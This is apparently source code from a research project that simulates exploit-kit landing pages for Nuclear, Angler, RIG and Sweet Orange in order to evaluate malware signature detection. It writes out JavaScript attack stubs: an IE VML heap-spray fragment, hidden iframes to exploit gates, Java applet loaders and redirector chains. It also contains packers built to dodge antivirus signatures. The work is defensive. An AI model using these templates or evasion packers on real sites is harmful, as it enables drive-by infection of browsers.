    case PluginTarget::InternetExplorer:
      body = R"JS(
function @P@_ie_@ID@(){if(PDVER.ie&&PDCore.compareNums(PDVER.ie+",0,0,0","10,0,0,0")<=0){
var hs=[];var hb=0x0c0c0c0c;for(var hi=0;hi<1024;hi++){hs[hi]=(unescape("%u0c0c%u0c0c")+"@ID@").substring(0,63)}
var vr=document.createElement("vml:rect");vr.style.behavior="url(#default#VML)";
try{vr.dashstyle="x x x "+hb;vr.anchorRect="@URL@/load.php?e=@ID@"}catch(ie_e){}
document.body.appendChild(vr)}}
)JS";
      break;
  }
  body = replace_all(body, "@P@", p);
  body = replace_all(body, "@ID@", id);
  body = replace_all(body, "@URL@", url);
  return body;
}

std::string payload_text(const PayloadSpec& spec) {
  if (spec.urls.empty()) {
    throw std::invalid_argument("payload_text: at least one URL required");
  }
  const std::string p = fam_prefix(spec.family);
  std::string out;
  out.reserve(8192);

  // 1. Detector. Nuclear carries the PluginDetect-derived core; the other
  // kits use a compact custom prober (stable per family).
  if (spec.family == KitFamily::Nuclear) {
    out += plugin_detector_core_text();
    out += R"JS(
var PDVER={flash:PDCore.getFlashVer(),silverlight:PDCore.getSilverlightVer(),java:PDCore.getJavaVer(),reader:PDCore.getReaderVer(),ie:PDCore.getIEVer()};
)JS";
  } else {
    out += compact_detector_text(p);
  }

  // 2. AV check (shared text; §II.B code borrowing).
  if (spec.av_check) {
    out += av_check_text();
  }

  // 3. Exploits. RIG delivers its exploits through gate URLs (short body,
  // URL-heavy — Fig 11d); the other kits carry one inline stub per CVE.
  if (spec.family == KitFamily::Rig) {
    std::vector<std::string> gates = spec.gate_urls;
    if (gates.empty()) {
      for (std::size_t i = 0; i < spec.cves.size(); ++i) {
        gates.push_back(spec.urls[i % spec.urls.size()] + "/load.php?e=" +
                        cve_ident(spec.cves[i]));
      }
    }
    out += "var " + p + "_gates=[";
    for (std::size_t i = 0; i < gates.size(); ++i) {
      if (i) out.push_back(',');
      out += "\"" + gates[i] + "\"";
    }
    out += "];\n";
    out += "function " + p +
           "_fire(){if(!PDVER.flash&&!PDVER.silverlight&&!PDVER.ie){return}"
           "for(var gi=0;gi<" +
           p + "_gates.length;gi++){var fr=document.createElement(\"iframe\");"
           "fr.width=1;fr.height=1;fr.src=" +
           p + "_gates[gi];document.body.appendChild(fr)}}\n";
  } else {
    for (std::size_t i = 0; i < spec.cves.size(); ++i) {
      out += exploit_stub_text(spec.family, spec.cves[i],
                               spec.urls[i % spec.urls.size()]);
    }
  }

  // 3a. Sweet Orange: the rotating redirector chain.
  if (!spec.redirect_chain.empty()) {
    out += "var " + p + "_chain=[";
    for (std::size_t i = 0; i < spec.redirect_chain.size(); ++i) {
      if (i) out.push_back(',');
      out += "\"" + spec.redirect_chain[i] + "\"";
    }
    out += "];\n";
    out += "function " + p + "_hop(n){if(n<" + p +
           "_chain.length){var s=document.createElement(\"script\");s.src=" +
           p + "_chain[n];document.body.appendChild(s)}}\n";
  }

  // 3b. Angler after 8/13: the Java marker string lives in the payload and
  // is only written out when a vulnerable Java is present (Fig 6).
  if (spec.embed_java_marker) {
    std::string marker = R"JS(
function @P@_jmark(){if(PDVER.java&&PDCore.compareNums(PDVER.java,"1,7,0,17")<=0){
document.write('<applet code="@MARK@.class" archive="@URL@/media/@MARK@.jar"></applet>')}}
)JS";
    marker = replace_all(marker, "@P@", p);
    marker = replace_all(marker, "@MARK@", spec.java_marker);
    marker = replace_all(marker, "@URL@", spec.urls[0]);
    out += marker;
  }

  // 4. Execution trigger: gate on the AV check, then fire every stub.
  out += "function " + p + "_go(){";
  if (spec.av_check) {
    out += "if(avscan_rk()){return}";
  }
  if (spec.family == KitFamily::Rig) {
    out += p + "_fire();";
  } else {
    for (const CveEntry& cve : spec.cves) {
      const std::string id = cve_ident(cve);
      switch (cve.target) {
        case PluginTarget::Flash: out += p + "_fl_" + id + "();"; break;
        case PluginTarget::Silverlight: out += p + "_sl_" + id + "();"; break;
        case PluginTarget::Java: out += p + "_jv_" + id + "();"; break;
        case PluginTarget::AdobeReader: out += p + "_pdf_" + id + "();"; break;
        case PluginTarget::InternetExplorer:
          out += p + "_ie_" + id + "();";
          break;
      }
    }
  }
  if (!spec.redirect_chain.empty()) {
    out += p + "_hop(0);";
  }
  if (spec.embed_java_marker) {
    out += p + "_jmark();";
  }
  out += "}\n" + p + "_go();\n";
  return out;
}

std::string compact_detector_text(const std::string& prefix) {
  std::string det = R"JS(
var PDCore={compareNums:function(f,d){var b=f.split(","),a=d.split(",");for(var g=0;g<4;g++){if(parseInt(b[g],10)>parseInt(a[g],10)){return 1}if(parseInt(b[g],10)<parseInt(a[g],10)){return -1}}return 0}};
function @P@_probe(m,n){try{if(navigator.mimeTypes[m]&&navigator.mimeTypes[m].enabledPlugin){return navigator.mimeTypes[m].enabledPlugin.description.replace(/[^\d]+/g,",")}}catch(e){}
try{var o=new ActiveXObject(n);return "1,0,0,0"}catch(e2){}return null}
var PDVER={flash:@P@_probe("application/x-shockwave-flash","ShockwaveFlash.ShockwaveFlash"),
silverlight:@P@_probe("application/x-silverlight-2","AgControl.AgControl"),
java:@P@_probe("application/x-java-applet","JavaWebStart.isInstalled"),
reader:@P@_probe("application/pdf","AcroPDF.PDF"),
ie:(/MSIE ([\d\.]+)/.test(navigator.userAgent))?RegExp.$1:null};
)JS";
  return replace_all(det, "@P@", prefix);
}

std::string plugindetect_library_text(int minor_version) {
  // The benign library: the shared detector core is the bulk of the file
  // (the Fig 15 overlap), followed by the public API tail that the kits do
  // not copy.
  std::string out = plugin_detector_core_text();
  out += R"JS(
var PluginDetect={version:"0.8.@V@",name:"PluginDetect",
getVersion:function(h,b,c){var a=null,d=(h+"").toLowerCase().replace(/\s/g,"");
if(d=="flash"){a=PDCore.getFlashVer()}
if(d=="silverlight"){a=PDCore.getSilverlightVer()}
if(d=="java"){a=PDCore.getJavaVer(b,c)}
if(d=="adobereader"||d=="pdfreader"){a=PDCore.getReaderVer()}
return a?a.replace(/,/g,"."):a},
isMinVersion:function(h,f){var a=this.getVersion(h),b=-1;if(a){b=PDCore.compareNums(PDCore.formatNum(a.replace(/\./g,",")),PDCore.formatNum((f+"").replace(/\./g,",")))>=0?1:-0.1}return b},
onDetectionDone:function(h,c,b){var a=this;if(a.getVersion(h)!==null){c(a)}else{setTimeout(function(){c(a)},b||100)}return 1},
hasMimeType:function(b){return PDCore.getMimeEnabledPlugin(b,".")?true:false},
onWindowLoaded:function(c){if(window.addEventListener){window.addEventListener("load",c,false)}else{window.attachEvent("onload",c)}},
beforeInstantiate:function(h){},afterInstantiate:function(h){}
};
)JS";
  return replace_all(out, "@V@", std::to_string(minor_version));
}

}  // namespace kizzle::kitgen
