#include "kitgen/kit.h"

#include <stdexcept>

namespace kizzle::kitgen {

std::string_view family_name(KitFamily f) {
  switch (f) {
    case KitFamily::Nuclear: return "Nuclear";
    case KitFamily::SweetOrange: return "Sweet Orange";
    case KitFamily::Angler: return "Angler";
    case KitFamily::Rig: return "RIG";
  }
  return "?";
}

KitFamily family_from_index(std::size_t i) {
  switch (i) {
    case 0: return KitFamily::Nuclear;
    case 1: return KitFamily::SweetOrange;
    case 2: return KitFamily::Angler;
    case 3: return KitFamily::Rig;
    default: throw std::out_of_range("family_from_index");
  }
}

std::size_t family_index(KitFamily f) {
  switch (f) {
    case KitFamily::Nuclear: return 0;
    case KitFamily::SweetOrange: return 1;
    case KitFamily::Angler: return 2;
    case KitFamily::Rig: return 3;
  }
  return 0;
}

std::string_view plugin_name(PluginTarget t) {
  switch (t) {
    case PluginTarget::Flash: return "Flash";
    case PluginTarget::Silverlight: return "Silverlight";
    case PluginTarget::Java: return "Java";
    case PluginTarget::AdobeReader: return "Adobe Reader";
    case PluginTarget::InternetExplorer: return "Internet Explorer";
  }
  return "?";
}

const std::vector<KitInfo>& kit_catalog() {
  // Fig 2 of the paper, row by row.
  static const std::vector<KitInfo> kCatalog = {
      {KitFamily::SweetOrange,
       {{PluginTarget::Flash, "2014-0515"},
        {PluginTarget::Java, "Unknown"},
        {PluginTarget::InternetExplorer, "2013-2551"},
        {PluginTarget::InternetExplorer, "2014-0322"}},
       /*av_check=*/false},
      {KitFamily::Angler,
       {{PluginTarget::Flash, "2014-0507"},
        {PluginTarget::Flash, "2014-0515"},
        {PluginTarget::Silverlight, "2013-0074"},
        {PluginTarget::Java, "2013-0422"},
        {PluginTarget::InternetExplorer, "2013-2551"}},
       /*av_check=*/true},
      {KitFamily::Rig,
       {{PluginTarget::Flash, "2014-0497"},
        {PluginTarget::Silverlight, "2013-0074"},
        {PluginTarget::Java, "Unknown"},
        {PluginTarget::InternetExplorer, "2013-2551"}},
       /*av_check=*/true},
      {KitFamily::Nuclear,
       {{PluginTarget::Flash, "(2013-5331)"},
        {PluginTarget::Flash, "2014-0497"},
        {PluginTarget::Java, "2013-2423"},
        {PluginTarget::Java, "2013-2460"},
        {PluginTarget::AdobeReader, "2010-0188"},
        {PluginTarget::InternetExplorer, "2013-2551"}},
       /*av_check=*/true},
  };
  return kCatalog;
}

const KitInfo& kit_info(KitFamily f) {
  for (const KitInfo& k : kit_catalog()) {
    if (k.family == f) return k;
  }
  throw std::logic_error("kit_info: family missing from catalog");
}

}  // namespace kizzle::kitgen
