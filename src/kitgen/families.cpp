#include "kitgen/families.h"

#include <algorithm>
#include <cctype>
#include <stdexcept>

#include "support/strings.h"

namespace kizzle::kitgen {

// ------------------------------------------------------------- helpers --

std::string make_landing_url(Rng& rng) {
  static const std::vector<std::string> kTlds = {"biz", "info", "net", "org",
                                                 "in", "ru", "pw", "eu"};
  static const std::vector<std::string> kWords = {
      "cdn",  "static", "media", "gate",  "click", "count",
      "serv", "node",   "edge",  "track", "img",   "api"};
  std::string url = "http://";
  url += rng.identifier(4, 9);
  url += ".";
  url += rng.pick(kWords) + "-" + rng.identifier(3, 6);
  url += ".";
  url += rng.pick(kTlds);
  url += "/";
  url += rng.pick(kWords);
  return to_lower(url);
}

std::string wrap_html(const std::string& extra_body_html,
                      const std::string& script_text, Rng& rng) {
  std::string out;
  out.reserve(script_text.size() + extra_body_html.size() + 512);
  out += "<html><head><title>";
  out += rng.identifier(4, 10);
  out += "</title></head>\n<body>\n";
  out += extra_body_html;
  out += "<script type=\"text/javascript\">\n";
  out += script_text;
  out += "</script>\n</body></html>\n";
  return out;
}

KitGenerator::KitGenerator(KitFamily f, std::uint64_t seed)
    : family_(f), rng_(seed) {}

void KitGenerator::begin_day(int day) {
  if (day < day_) {
    throw std::invalid_argument("KitGenerator::begin_day: days must ascend");
  }
  while (day_ < day) {
    ++day_;
    for (const KitEvent& e : august_schedule()) {
      if (e.day == day_ && e.family == family_) {
        apply_event(e);
      }
    }
    new_day();
  }
}

double KitGenerator::fraction_new() const {
  const int delta = day_ - transition_day_;
  double ramp;
  if (delta < 0) {
    ramp = 0.0;
  } else if (delta == 0) {
    ramp = 0.35;
  } else if (delta == 1) {
    ramp = 0.70;
  } else {
    ramp = 1.0;
  }
  return std::min(ramp, adoption_cap_);
}

bool KitGenerator::use_new_version(Rng& rng) const {
  return rng.chance(fraction_new());
}

namespace {

// ------------------------------------------------------------- Nuclear --

class NuclearGen final : public KitGenerator {
 public:
  explicit NuclearGen(std::uint64_t seed)
      : KitGenerator(KitFamily::Nuclear, seed) {
    // State as of August 1st: the 7/20 packer version of Fig 5
    // ("e3fwrwg4#"), AV detection present since 7/29.
    cur_.strip = "3fwrwg4";
    cur_.mode = ObfuscationMode::InsertOnce;
    prev_ = cur_;
    urls_ = {make_landing_url(rng_), make_landing_url(rng_)};
    minor_variant_p_ = 0.05;
  }

  std::string sample_html(Rng& rng) override {
    const bool newv = use_new_version(rng);
    NuclearPackerState st = newv ? cur_ : prev_;
    if (rng.chance(minor_variant_p_)) {
      // AV-evading per-sample tweak: randomize the delimiter.
      st.strip = "#" + rng.string_over("0123456789ABCDEF", 6);
    }
    const std::string packed = pack_nuclear(payload(), st, rng);
    return wrap_html("", packed, rng);
  }

  std::string unpacked_payload() const override { return payload(); }

  std::string analyst_feature() const override {
    return nuclear_analyst_feature(cur_);
  }

 private:
  std::string payload() const {
    PayloadSpec spec;
    spec.family = KitFamily::Nuclear;
    spec.cves = kit_info(KitFamily::Nuclear).cves;
    if (extra_sl_cve_) {
      spec.cves.push_back({PluginTarget::Silverlight, "2013-0074"});
    }
    spec.av_check = true;  // present since 7/29 (Fig 5)
    spec.urls = urls_;
    return payload_text(spec);
  }

  void apply_event(const KitEvent& e) override {
    switch (e.kind) {
      case EventKind::PackerChange: {
        prev_ = cur_;
        // Fig 5's August delimiters.
        if (e.label == "esa1asv") {
          cur_.strip = "sa1as";
          cur_.mode = ObfuscationMode::InsertOnce;
        } else if (e.label == "eher_vam#") {
          cur_.strip = "her_vam#";
          cur_.mode = ObfuscationMode::InsertOnce;
        } else if (e.label == "efber443#") {
          cur_.strip = "fber443#";
          cur_.mode = ObfuscationMode::InsertOnce;
        } else if (e.label == "eUluN#") {
          cur_.strip = "UluN";
          cur_.mode = ObfuscationMode::Interleave;
        } else {
          cur_.strip = "#" + rng_.string_over("0123456789ABCDEF", 6);
        }
        transition_day_ = day_;
        ++version_id_;
        break;
      }
      case EventKind::SemanticChange:
        // 8/12: the packer semantics changed; we model it as the index
        // encoding switching from decimal to hexadecimal.
        prev_ = cur_;
        cur_.radix = 16;
        transition_day_ = day_;
        ++version_id_;
        break;
      case EventKind::PayloadAppend:
        extra_sl_cve_ = true;  // server-side: applies to all samples at once
        break;
      case EventKind::PayloadAvCheck:
        break;  // already present in August
    }
  }

  NuclearPackerState cur_;
  NuclearPackerState prev_;
  std::vector<std::string> urls_;
  bool extra_sl_cve_ = false;
};

// -------------------------------------------------------------- Angler --

class AnglerGen final : public KitGenerator {
 public:
  explicit AnglerGen(std::uint64_t seed)
      : KitGenerator(KitFamily::Angler, seed) {
    cur_.pk.offset = 47;
    cur_.pk.eval_parts = {"e", "v", "a", "l"};
    cur_.marker_in_payload = false;
    prev_ = cur_;
    urls_ = {make_landing_url(rng_), make_landing_url(rng_)};
    minor_variant_p_ = 0.04;
  }

  std::string sample_html(Rng& rng) override {
    const bool newv = use_new_version(rng);
    Version v = newv ? cur_ : prev_;
    if (rng.chance(minor_variant_p_)) {
      // AV-evading tweak: a random eval split pattern.
      v.pk.eval_parts = random_split(rng);
    }
    const std::string packed = pack_angler(payload(v), v.pk, rng);
    std::string extra;
    if (!v.marker_in_payload) {
      // Pre-8/13: the Java exploit marker sits in the clear HTML — the
      // unique string the commercial AV signature matched (Fig 6).
      extra = "<applet code=\"" + std::string(kMarker) +
              ".class\" archive=\"" + urls_[0] + "/media/" +
              std::string(kMarker) + ".jar\"></applet>\n";
    }
    return wrap_html(extra, packed, rng);
  }

  std::string unpacked_payload() const override { return payload(cur_); }

  std::string analyst_feature() const override {
    return angler_analyst_feature(cur_.pk);
  }

 private:
  static constexpr std::string_view kMarker = "jvmqx1r7a";

  struct Version {
    AnglerPackerState pk;
    bool marker_in_payload = false;
  };

  static std::vector<std::string> random_split(Rng& rng) {
    const std::string word = "eval";
    std::vector<std::string> parts;
    std::size_t start = 0;
    while (start < word.size()) {
      const std::size_t len = 1 + rng.index(word.size() - start);
      parts.push_back(word.substr(start, len));
      start += len;
    }
    return parts;
  }

  std::string payload(const Version& v) const {
    PayloadSpec spec;
    spec.family = KitFamily::Angler;
    spec.cves = kit_info(KitFamily::Angler).cves;
    spec.av_check = true;
    spec.urls = urls_;
    spec.embed_java_marker = v.marker_in_payload;
    spec.java_marker = std::string(kMarker);
    return payload_text(spec);
  }

  void apply_event(const KitEvent& e) override {
    prev_ = cur_;
    switch (e.kind) {
      case EventKind::PackerChange:
        cur_.pk.eval_parts = {"ev", "al"};
        cur_.pk.offset = 53;
        break;
      case EventKind::SemanticChange:
        // 8/13: marker moves into the packed body AND the packer's split
        // pattern changes; rollout stalls mid-way (adoption cap), which
        // shapes the Fig 6 window.
        cur_.marker_in_payload = true;
        cur_.pk.eval_parts = {"e", "va", "l"};
        adoption_cap_ = 0.55;
        break;
      default:
        break;
    }
    transition_day_ = day_;
    ++version_id_;
  }

  Version cur_;
  Version prev_;
  std::vector<std::string> urls_;
};

// ----------------------------------------------------------------- RIG --

class RigGen final : public KitGenerator {
 public:
  explicit RigGen(std::uint64_t seed) : KitGenerator(KitFamily::Rig, seed) {
    cur_.delim = "y6";
    prev_ = cur_;
    minor_variant_p_ = 0.08;
    regen_urls();
  }

  std::string sample_html(Rng& rng) override {
    const bool newv = use_new_version(rng);
    RigPackerState st = newv ? cur_ : prev_;
    if (rng.chance(minor_variant_p_)) {
      st.delim = rng.string_over("abcdefghjkmnpqrstuvwxyz", 1) +
                 rng.string_over("2345679", 1);
    }
    const std::string packed = pack_rig(payload(), st, rng);
    return wrap_html("", packed, rng);
  }

  std::string unpacked_payload() const override { return payload(); }

  std::string analyst_feature() const override {
    return rig_analyst_feature(cur_);
  }

 private:
  std::string payload() const {
    PayloadSpec spec;
    spec.family = KitFamily::Rig;
    spec.cves = kit_info(KitFamily::Rig).cves;
    spec.av_check = true;  // RIG pioneered the module (§II.B)
    spec.urls = urls_;
    spec.gate_urls = gates_;
    return payload_text(spec);
  }

  void regen_urls() {
    urls_.clear();
    for (int i = 0; i < 3; ++i) urls_.push_back(make_landing_url(rng_));
    // Exploit gates: fresh URLs and campaign tokens every day, count
    // varying — roughly half of RIG's short body, hence the ~50% day-over-
    // day churn of Fig 11(d).
    gates_.clear();
    const auto& cves = kit_info(KitFamily::Rig).cves;
    const std::size_t n_gates = 6 + rng_.index(10);
    for (std::size_t i = 0; i < n_gates; ++i) {
      std::string id;
      for (char c : cves[i % cves.size()].cve) {
        if (std::isalnum(static_cast<unsigned char>(c))) id.push_back(c);
        if (c == '-') id.push_back('_');
      }
      // Path and parameter names are randomized per day too (RIG rotated
      // its gate software constantly).
      gates_.push_back(make_landing_url(rng_) + "/" + rng_.identifier(3, 8) +
                       ".php?" + rng_.identifier(1, 2) + "=" + id + "&" +
                       rng_.identifier(1, 2) + "=" +
                       rng_.string_over("0123456789abcdef", 12) + "&" +
                       rng_.identifier(1, 2) + "=" +
                       rng_.string_over("0123456789abcdef", 8));
    }
  }

  void apply_event(const KitEvent& e) override {
    if (e.kind != EventKind::PackerChange) return;
    prev_ = cur_;
    static const std::vector<std::string> kDelims = {"qX3", "zx", "wp4",
                                                     "Kd"};
    cur_.delim = kDelims[static_cast<std::size_t>(version_id_) %
                         kDelims.size()];
    transition_day_ = day_;
    ++version_id_;
  }

  void new_day() override {
    // RIG's embedded URLs churn daily; the kit body is short, so this is
    // the 50% day-over-day noise of Fig 11(d).
    regen_urls();
  }

  RigPackerState cur_;
  RigPackerState prev_;
  std::vector<std::string> urls_;
  std::vector<std::string> gates_;
};

// -------------------------------------------------------- Sweet Orange --

class SweetOrangeGen final : public KitGenerator {
 public:
  explicit SweetOrangeGen(std::uint64_t seed)
      : KitGenerator(KitFamily::SweetOrange, seed) {
    cur_.positions = {14, 13, 15, 12, 16, 11, 17, 10};
    cur_.key = "qkXw72Lp";
    cur_.junk_extra = 5;
    prev_ = cur_;
    minor_variant_p_ = 0.05;
    for (int i = 0; i < 5; ++i) urls_.push_back(make_landing_url(rng_));
    chain_.resize(16);
    for (auto& entry : chain_) entry = make_chain_entry();
  }

  std::string sample_html(Rng& rng) override {
    const bool newv = use_new_version(rng);
    SweetOrangePackerState st = newv ? cur_ : prev_;
    if (rng.chance(minor_variant_p_)) {
      for (int& p : st.positions) {
        p = 10 + static_cast<int>(rng.index(9));
      }
    }
    const std::string packed = pack_sweet_orange(payload(), st, rng);
    return wrap_html("", packed, rng);
  }

  std::string unpacked_payload() const override { return payload(); }

  std::string analyst_feature() const override {
    return sweet_orange_analyst_feature(cur_);
  }

 private:
  std::string payload() const {
    PayloadSpec spec;
    spec.family = KitFamily::SweetOrange;
    spec.cves = kit_info(KitFamily::SweetOrange).cves;
    spec.av_check = false;  // Fig 2: Sweet Orange carries no AV check
    spec.urls = urls_;
    spec.redirect_chain = chain_;
    return payload_text(spec);
  }

  std::string make_chain_entry() {
    return make_landing_url(rng_) + "/r.php?z=" +
           rng_.string_over("0123456789abcdef", 16) + "&s=" +
           rng_.string_over("0123456789", 5);
  }

  void apply_event(const KitEvent& e) override {
    if (e.kind != EventKind::PackerChange) return;
    prev_ = cur_;
    std::vector<int> pool = {10, 11, 12, 13, 14, 15, 16, 17, 18};
    rng_.shuffle(pool);
    cur_.positions.assign(pool.begin(), pool.begin() + 8);
    cur_.key = rng_.identifier(8);
    if (e.label == "junk length change") {
      cur_.junk_extra = 9;
    }
    // Version updates also refresh the whole redirector infrastructure —
    // the deeper Fig 11(b) dips.
    for (auto& entry : chain_) entry = make_chain_entry();
    transition_day_ = day_;
    ++version_id_;
  }

  void new_day() override {
    // Moderate inner churn (Fig 11(b)'s 50-95% band): a few redirector
    // entries rotate every day, some landing URLs every few days.
    const std::size_t rotate = 3 + rng_.index(5);
    for (std::size_t i = 0; i < rotate; ++i) {
      chain_[rng_.index(chain_.size())] = make_chain_entry();
    }
    if ((day_ - kAug1) % 3 == 1) {
      urls_[rng_.index(urls_.size())] = make_landing_url(rng_);
      urls_[rng_.index(urls_.size())] = make_landing_url(rng_);
    }
  }

  SweetOrangePackerState cur_;
  SweetOrangePackerState prev_;
  std::vector<std::string> urls_;
  std::vector<std::string> chain_;
};

}  // namespace

std::unique_ptr<KitGenerator> make_kit_generator(KitFamily f,
                                                 std::uint64_t seed) {
  switch (f) {
    case KitFamily::Nuclear: return std::make_unique<NuclearGen>(seed);
    case KitFamily::Angler: return std::make_unique<AnglerGen>(seed);
    case KitFamily::Rig: return std::make_unique<RigGen>(seed);
    case KitFamily::SweetOrange:
      return std::make_unique<SweetOrangeGen>(seed);
  }
  throw std::invalid_argument("make_kit_generator: unknown family");
}

}  // namespace kizzle::kitgen
