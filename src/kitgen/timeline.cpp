#include "kitgen/timeline.h"

#include <algorithm>
#include <stdexcept>

namespace kizzle::kitgen {

int day_from_date(int month, int day_of_month) {
  if (day_of_month < 1 || day_of_month > 31) {
    throw std::invalid_argument("day_from_date: bad day");
  }
  switch (month) {
    case 6: return day_of_month - 1;
    case 7: return 30 + day_of_month - 1;
    case 8: return 61 + day_of_month - 1;
    default:
      throw std::invalid_argument("day_from_date: month outside June-August");
  }
}

std::string date_label(int day) {
  int month;
  int dom;
  if (day < 30) {
    month = 6;
    dom = day + 1;
  } else if (day < 61) {
    month = 7;
    dom = day - 30 + 1;
  } else if (day <= kAug31) {
    month = 8;
    dom = day - 61 + 1;
  } else {
    throw std::out_of_range("date_label: day outside June-August");
  }
  return std::to_string(month) + "/" + std::to_string(dom);
}

std::string_view event_kind_name(EventKind kind) {
  switch (kind) {
    case EventKind::PackerChange: return "packer change";
    case EventKind::SemanticChange: return "semantic change";
    case EventKind::PayloadAppend: return "payload append";
    case EventKind::PayloadAvCheck: return "AV detection added";
  }
  return "?";
}

const std::vector<KitEvent>& nuclear_fig5_timeline() {
  // Fig 5 of the paper. Packer changes above the axis, payload changes
  // below. Labels are the obfuscated-eval forms the paper shows.
  static const std::vector<KitEvent> kTimeline = [] {
    using EK = EventKind;
    const KitFamily N = KitFamily::Nuclear;
    std::vector<KitEvent> t = {
        {day_from_date(6, 1), N, EK::PackerChange, "ev#FFFFFFal"},
        {day_from_date(6, 14), N, EK::PackerChange, "e#FFFFFFval"},
        {day_from_date(6, 18), N, EK::PackerChange, "eva#FFFFFFl"},
        {day_from_date(6, 24), N, EK::PackerChange, "\"ev\" + var"},
        {day_from_date(6, 30), N, EK::PackerChange, "e~v~#...~a~l"},
        {day_from_date(7, 9), N, EK::PackerChange, "e~#...~v~a~l"},
        {day_from_date(7, 11), N, EK::PackerChange, "e~##...~#v~#a~#l"},
        {day_from_date(7, 17), N, EK::PackerChange, "e3X@@#v.."},
        {day_from_date(7, 20), N, EK::PackerChange, "e3fwrwg4#"},
        {day_from_date(7, 29), N, EK::PayloadAvCheck, "AV detection"},
        {day_from_date(8, 12), N, EK::SemanticChange, "Semantic change"},
        {day_from_date(8, 17), N, EK::PackerChange, "esa1asv"},
        {day_from_date(8, 19), N, EK::PackerChange, "eher_vam#"},
        {day_from_date(8, 22), N, EK::PackerChange, "efber443#"},
        {day_from_date(8, 26), N, EK::PackerChange, "eUluN#"},
        {day_from_date(8, 27), N, EK::PayloadAppend, "CVE 2013-0074 (SL)"},
    };
    return t;
  }();
  return kTimeline;
}

const std::vector<KitEvent>& august_schedule() {
  static const std::vector<KitEvent> kSchedule = [] {
    using EK = EventKind;
    std::vector<KitEvent> t;
    // Nuclear: the August tail of Fig 5.
    for (const KitEvent& e : nuclear_fig5_timeline()) {
      if (e.day >= kAug1) t.push_back(e);
    }
    // Angler: one packer tweak early in the month, then the 8/13 change
    // that moved the Java-exploit marker string into the obfuscated body
    // (the window-of-vulnerability event of Fig 6).
    t.push_back({day_from_date(8, 4), KitFamily::Angler, EK::PackerChange,
                 "eval split pattern"});
    t.push_back({day_from_date(8, 13), KitFamily::Angler, EK::SemanticChange,
                 "Java marker moved into packed body"});
    // RIG: frequent delimiter churn (the paper observed RIG changing the
    // most; Fig 12 shows seven AV signature releases for RIG in August).
    t.push_back({day_from_date(8, 5), KitFamily::Rig, EK::PackerChange,
                 "delimiter change"});
    t.push_back({day_from_date(8, 12), KitFamily::Rig, EK::PackerChange,
                 "delimiter change"});
    t.push_back({day_from_date(8, 18), KitFamily::Rig, EK::PackerChange,
                 "delimiter change"});
    t.push_back({day_from_date(8, 25), KitFamily::Rig, EK::PackerChange,
                 "delimiter change"});
    // Sweet Orange: moderate packer drift.
    t.push_back({day_from_date(8, 7), KitFamily::SweetOrange,
                 EK::PackerChange, "sqrt constants"});
    t.push_back({day_from_date(8, 20), KitFamily::SweetOrange,
                 EK::PackerChange, "junk length change"});
    std::sort(t.begin(), t.end(),
              [](const KitEvent& a, const KitEvent& b) { return a.day < b.day; });
    return t;
  }();
  return kSchedule;
}

}  // namespace kizzle::kitgen
