// The outer "onion" layers: one packer per kit family, modeled on the
// paper's Fig 4 listings and §II.B observations.
//
//   RIG           delimiter-joined char codes accumulated through a
//                 collector function, split + fromCharCode (Fig 4a);
//                 the delimiter is randomized between kit versions.
//   Nuclear       payload encrypted as 2-digit indices into a per-response
//                 key string; well-known strings ("eval", "window",
//                 "substr", ...) obfuscated by inserting a version-specific
//                 delimiter, stripped at runtime (Fig 4b / Fig 10a).
//   Angler        char codes shifted by a version-specific offset, decoded
//                 in a loop; the eval trigger is assembled from
//                 version-specific string fragments.
//   Sweet Orange  an 8-char key hidden at Math.sqrt(N*N) positions of junk
//                 strings, XOR-decoding a hex payload (Fig 10b style).
//
// Per-sample randomness (identifier names, keys, junk) flows through the
// caller's Rng; everything version-level lives in the *PackerState structs
// so that the evolution engine can mutate exactly what the paper says
// mutates.
#pragma once

#include <string>
#include <vector>

#include "support/rng.h"

namespace kizzle::kitgen {

// ---------------------------------------------------------------- RIG --
struct RigPackerState {
  std::string delim = "y6";  // randomized between versions (paper §II.A)
};

std::string pack_rig(const std::string& payload, const RigPackerState& st,
                     Rng& rng);

// The literal an analyst would match for this version (see av/ module):
// "=<delim>;function" — the delimiter declaration followed by the
// collector, stable across samples of a version.
std::string rig_analyst_feature(const RigPackerState& st);

// The §V adversary: RIG rebuilt to defeat single-sequence structural
// signatures by inserting "a random number of superfluous JavaScript
// instructions between relevant operations" — including inside function
// and loop bodies. junk_density is the per-insertion-point probability.
// The payload still round-trips through the standard RIG unpacker.
std::string pack_rig_adversarial(const std::string& payload,
                                 const RigPackerState& st,
                                 double junk_density, Rng& rng);

// ------------------------------------------------------------ Nuclear --
enum class ObfuscationMode {
  InsertOnce,   // "ev#FFFFFFal"
  Interleave,   // "eUluNvUluNaUluNlUluN"
};

struct NuclearPackerState {
  std::string strip = "#FFFFFF";  // the delimiter Fig 5 tracks
  ObfuscationMode mode = ObfuscationMode::InsertOnce;
  int radix = 10;  // index encoding; the 8/12 semantic change flips to 16
};

// "eval" obfuscated under the state's scheme.
std::string nuclear_obfuscate(const std::string& word,
                              const NuclearPackerState& st);

std::string pack_nuclear(const std::string& payload,
                         const NuclearPackerState& st, Rng& rng);

std::string nuclear_analyst_feature(const NuclearPackerState& st);

// ------------------------------------------------------------- Angler --
struct AnglerPackerState {
  int offset = 47;  // charcode shift, version-specific
  std::vector<std::string> eval_parts = {"e", "v", "a", "l"};
};

std::string pack_angler(const std::string& payload,
                        const AnglerPackerState& st, Rng& rng);

std::string angler_analyst_feature(const AnglerPackerState& st);

// ------------------------------------------------------- Sweet Orange --
struct SweetOrangePackerState {
  // Key characters are hidden at positions[i] of the i-th junk string;
  // the packed code reads them via charAt(Math.sqrt(positions[i]^2)).
  std::vector<int> positions = {14, 13, 15, 12, 16, 11, 17, 10};
  std::string key = "qkXw72Lp";
  int junk_extra = 5;  // junk strings are positions[i]+1+rand(junk_extra)
};

std::string pack_sweet_orange(const std::string& payload,
                              const SweetOrangePackerState& st, Rng& rng);

std::string sweet_orange_analyst_feature(const SweetOrangePackerState& st);

}  // namespace kizzle::kitgen
