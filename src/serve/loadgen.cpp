#include "serve/loadgen.h"

#include <atomic>
#include <condition_variable>
#include <mutex>
#include <sstream>
#include <thread>
#include <utility>

#include "core/sigdb.h"
#include "kitgen/stream.h"
#include "support/rng.h"
#include "text/normalize.h"

namespace kizzle::serve {

using Clock = std::chrono::steady_clock;

// ------------------------------- fixture --------------------------------

ServeFixture make_fixture(const FixtureConfig& cfg) {
  kitgen::StreamConfig scfg;
  scfg.seed = cfg.seed;
  scfg.volume_scale = cfg.volume_scale;
  kitgen::StreamSimulator sim(scfg);

  core::KizzlePipeline pipeline(core::PipelineConfig{}, cfg.seed);
